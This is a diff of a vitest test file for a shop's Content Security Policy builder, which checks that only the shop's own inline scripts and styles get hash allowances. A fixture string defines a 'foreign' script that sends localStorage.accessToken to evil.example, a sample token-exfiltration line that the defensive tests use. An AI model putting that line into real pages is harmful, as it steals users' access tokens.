@@ -2,6 +2,7 @@ import { createHash } from "node:crypto";
 import { expect, test } from "vitest";
 import { noOrigins } from "../../kernel/payment-origins.ts";
 import { ownInlineOf, policyFor } from "./content-security-policy.server.ts";
+import { cutPage } from "./rendered-page.ts";
 
 const own = "document.documentElement.dataset.theme = 'dark'";
 const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
@@ -14,10 +15,10 @@ function hashOf(script: string): string {
 	return `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
 }
 
-function directive(name: string): string[] {
-	const policy = policyFor(page, ownInlineOf(`<script>${own}</script>`, ownStyle), origins).split(
-		"; ",
-	);
+const ownInline = ownInlineOf(cutPage(`<script>${own}</script>`), ownStyle);
+
+function directive(name: string, html = page): string[] {
+	const policy = policyFor(cutPage(html), ownInline, origins).split("; ");
 	return (
 		policy
 			.find((one) => one.startsWith(`${name} `))
@@ -29,6 +30,16 @@ function directive(name: string): string[] {
 test("only the shop's own inline scripts and style count, by their hashes", () => {
 	expect(directive("script-src")).toEqual(["'self'", hashOf(own)]);
 	expect(directive("style-src")).toEqual(["'self'", hashOf(ownStyle)]);
+});
+
+test("a script in a page's content is not allowed, whatever it looks like", () => {
+	const stream = "window.__reactRouterContext.streamController";
+	const data = `${stream}.enqueue("[]");${stream}.close();`;
+	const withData = (before: string, after: string) =>
+		`<html><body><main>${before}</main><footer></footer>${after}</body></html>`;
+	const script = `<script>${data}</script>`;
+	expect(directive("script-src", withData("", script))).toEqual(["'self'", hashOf(data)]);
+	expect(directive("script-src", withData(script, ""))).toEqual(["'self'"]);
 });
 
 test("a page may fetch ahead from the shop; nothing else goes by what holds for kinds that are not named", () => {
